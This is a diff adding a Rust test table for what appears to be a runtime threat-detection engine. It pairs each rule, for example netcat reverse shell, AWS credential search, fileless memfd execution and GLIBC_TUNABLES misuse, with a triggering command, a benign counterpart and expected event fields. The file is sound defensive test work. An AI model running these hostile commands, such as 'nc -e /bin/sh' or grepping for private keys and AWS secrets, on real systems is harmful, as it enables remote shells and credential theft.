@@ -1,0 +1,189 @@
+//! Rules about programs that are started.
+
+use super::row::{Act, But, Place, Row, capable, container, host};
+
+pub(super) const ROWS: &[Row] = &[
+    Row::new(
+        "Run shell untrusted",
+        host("/as/nginx '/bin/sh -c \"/bin/id -u\"'"),
+        // Asking whether a process is there is what servers' scripts do.
+        host("/as/nginx '/bin/sh -c \"kill -0 1\"'"),
+        &[
+            ("proc.name", "sh"),
+            ("proc.cmdline", "sh -c /bin/id -u"),
+            ("proc.pname", "nginx"),
+            ("proc.pexepath", "/bin/busybox"),
+            ("proc.pcmdline", "nginx /as/nginx *"),
+            ("proc.aname[2]", "sh"),
+            ("evt.type", "execve"),
+        ],
+    ),
+    Row::new(
+        "System user interactive",
+        host("/as/sshd '/bin/su -s /bin/sh daemon -c \"/bin/id -u\"'"),
+        host("/as/worker '/bin/su -s /bin/sh daemon -c \"/bin/id -u\"'"),
+        &[("proc.name", "id"), ("user.name", "daemon"), ("user.uid", "1")],
+    )
+    .but(But::Lacks { field: "user.name", of: "evt.type = execve and proc.name = id and user.uid = 1" }),
+    Row::new(
+        "Terminal shell in container",
+        Act { place: Place::Terminal, what: "/bin/sh -c /bin/true" },
+        Act { place: Place::Session, what: "/bin/sh -c /bin/true" },
+        &[
+            ("proc.name", "sh"),
+            ("proc.cmdline", "sh -c /bin/true"),
+            ("proc.pname", "null"),
+            // Major 136 and minor 0: /dev/pts/0 inside.
+            ("proc.tty", "34816"),
+        ],
+    ),
+    Row::new(
+        "Netcat Remote Code Execution in Container",
+        container("! /bin/nc -e /bin/sh 127.0.0.1 4444"),
+        container("! /bin/nc 127.0.0.1 4444"),
+        &[("proc.name", "nc"), ("proc.cmdline", "nc -e /bin/sh 127.0.0.1 4444")],
+    ),
+    Row::new(
+        "Search Private Keys or Passwords",
+        host("! /bin/grep -r 'BEGIN RSA PRIVATE' /srv"),
+        host("! /bin/grep -r 'BEGIN CERTIFICATE' /srv"),
+        &[("proc.name", "grep"), ("proc.cmdline", "grep -r BEGIN RSA PRIVATE /srv")],
+    ),
+    Row::new(
+        "Remove Bulk Data from Disk",
+        container("/bin/cp /srv/report /tmp/report; /bin/shred -u /tmp/report"),
+        container("/bin/cp /srv/report /tmp/report; /bin/rm /tmp/report"),
+        &[("proc.name", "shred"), ("proc.cmdline", "shred -u /tmp/report")],
+    ),
+    Row::new(
+        "Debugfs Launched in Privileged Container",
+        capable("/as/debugfs :"),
+        container("/as/debugfs :"),
+        &[("proc.name", "debugfs")],
+    )
+    .but(But::Lacks { field: "container.privileged", of: "evt.type = execve and proc.name = debugfs" }),
+    Row::new(
+        "Find AWS Credentials",
+        host("/bin/grep aws_secret_access_key /root/.aws/credentials"),
+        host("/bin/grep region /root/.aws/config"),
+        &[
+            ("proc.name", "grep"),
+            ("proc.pcmdline", "sh"),
+            ("proc.cwd", "/"),
+            ("group.gid", "0"),
+            ("group.name", "root"),
+        ],
+    ),
+    Row::new(
+        "Execution from /dev/shm",
+        container("/bin/mkdir -p /dev/shm; /bin/cp /bin/busybox /dev/shm/true; /dev/shm/true"),
+        container("/bin/mkdir -p /dev/sham; /bin/cp /bin/busybox /dev/sham/true; /dev/sham/true"),
+        &[
+            ("proc.name", "true"),
+            ("proc.exepath", "/dev/shm/true"),
+            ("proc.cmdline", "true"),
+            ("proc.cwd", "/tmp/"),
+            ("evt.res", "SUCCESS"),
+        ],
+    ),
+    Row::new(
+        "Drop and execute new binary in container",
+        container("/bin/cp /bin/busybox /tmp/true; /tmp/true"),
+        container("/opt/true"),
+        &[("proc.exe", "/tmp/true"), ("proc.exepath", "/tmp/true"), ("proc.name", "true")],
+    ),
+    Row::new(
+        "Fileless execution via memfd_create",
+        host(
+            "/calls/tool workload calls 'f=openat -100 \"/bin/busybox\" 0' 'm=memfd_create \"payload\" 0' \
+             'sendfile @m @f 0 100000000' 'execveat @m \"\" 0 0 0x1000'; true",
+        ),
+        host(
+            "/calls/tool workload calls 'f=openat -100 \"/bin/busybox\" 0' 'execveat @f \"\" 0 0 0x1000'; true",
+        ),
+        &[("proc.exepath", "*payload*"), ("evt.res", "SUCCESS"), ("proc.pname", "sh")],
+    ),
+    Row::new(
+        "DB program spawned process",
+        host("/as/mysqld '/bin/id'"),
+        host("/as/mysqld '/as/postgres :'"),
+        &[("proc.name", "id"), ("proc.pname", "mysqld"), ("proc.cmdline", "id")],
+    ),
+    Row::new(
+        "Launch Privileged Container",
+        Act { place: Place::StartCapable, what: "/bin/true privileged" },
+        Act { place: Place::Start, what: "/bin/true privileged" },
+        &[("proc.cmdline", "true privileged")],
+    )
+    .but(But::Lacks {
+        field: "container.privileged",
+        of: "evt.type = execve and proc.cmdline = 'true privileged'",
+    }),
+    Row::new(
+        "Launch Excessively Capable Container",
+        Act { place: Place::StartCapable, what: "/bin/true capable" },
+        Act { place: Place::Start, what: "/bin/true capable" },
+        &[
+            ("proc.cmdline", "true capable"),
+            ("thread.cap_permitted", "*CAP_SYS_ADMIN*"),
+            ("proc.pname", "null"),
+        ],
+    ),
+    Row::new(
+        "Program run with disallowed http proxy env",
+        host("! HTTP_PROXY=http://127.0.0.1:1 /bin/wget http://127.0.0.1:2/"),
+        host("! /bin/wget http://127.0.0.1:2/"),
+        &[("proc.name", "wget"), ("proc.env", "*HTTP_PROXY=http://127.0.0.1:1*")],
+    )
+    .but(But::Lacks { field: "proc.env", of: "evt.type = execve and proc.name = wget" }),
+    Row::new(
+        "User mgmt binaries",
+        host("! /bin/passwd nobody-of-this-name"),
+        host("! /bin/passwd -S nobody-of-this-name"),
+        &[("proc.name", "passwd"), ("proc.cmdline", "passwd nobody-of-this-name"), ("proc.aname[2]", "sh")],
+    ),
+    Row::new(
+        "Launch Package Management Process in Container",
+        container("/bin/dpkg -l"),
+        container("/as/dpkg-query :"),
+        &[("proc.name", "dpkg"), ("proc.cmdline", "dpkg -l")],
+    ),
+    Row::new(
+        "Launch Suspicious Network Tool in Container",
+        container("! /bin/telnet 127.0.0.1 4444"),
+        host("! /bin/telnet 127.0.0.1 4444"),
+        &[("proc.name", "telnet"), ("proc.cmdline", "telnet 127.0.0.1 4444")],
+    ),
+    Row::new(
+        "Launch Suspicious Network Tool on Host",
+        host("! /bin/telnet 127.0.0.1 4444"),
+        container("! /bin/telnet 127.0.0.1 4444"),
+        &[("proc.name", "telnet"), ("proc.cmdline", "telnet 127.0.0.1 4444")],
+    ),
+    Row::new(
+        "Launch Remote File Copy Tools in Container",
+        container("/as/scp :"),
+        host("/as/scp :"),
+        &[("proc.name", "scp"), ("proc.cmdline", "scp /as/scp :")],
+    ),
+    Row::new(
+        "Mount Launched in Privileged Container",
+        capable("/bin/mount -t tmpfs none /srv"),
+        capable("/bin/mount"),
+        &[("proc.name", "mount"), ("proc.cmdline", "mount -t tmpfs none /srv")],
+    )
+    .but(But::Lacks { field: "container.privileged", of: "evt.type = execve and proc.name = mount" }),
+    Row::new(
+        "Launch Ingress Remote File Copy Tools in Container",
+        container("/as/curl : -o /tmp/file"),
+        container("/as/curl :"),
+        &[("proc.name", "curl"), ("proc.cmdline", "curl /as/curl : -o /tmp/file")],
+    ),
+    Row::new(
+        "Potential Local Privilege Escalation via Environment Variables Misuse",
+        host("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true"),
+        host("GLIBC_VERSION=1 /bin/true"),
+        &[("proc.name", "true"), ("proc.env", "*GLIBC_TUNABLES=*")],
+    )
+    .but(But::Lacks { field: "proc.env", of: "evt.type = execve and proc.name = true" }),
+];
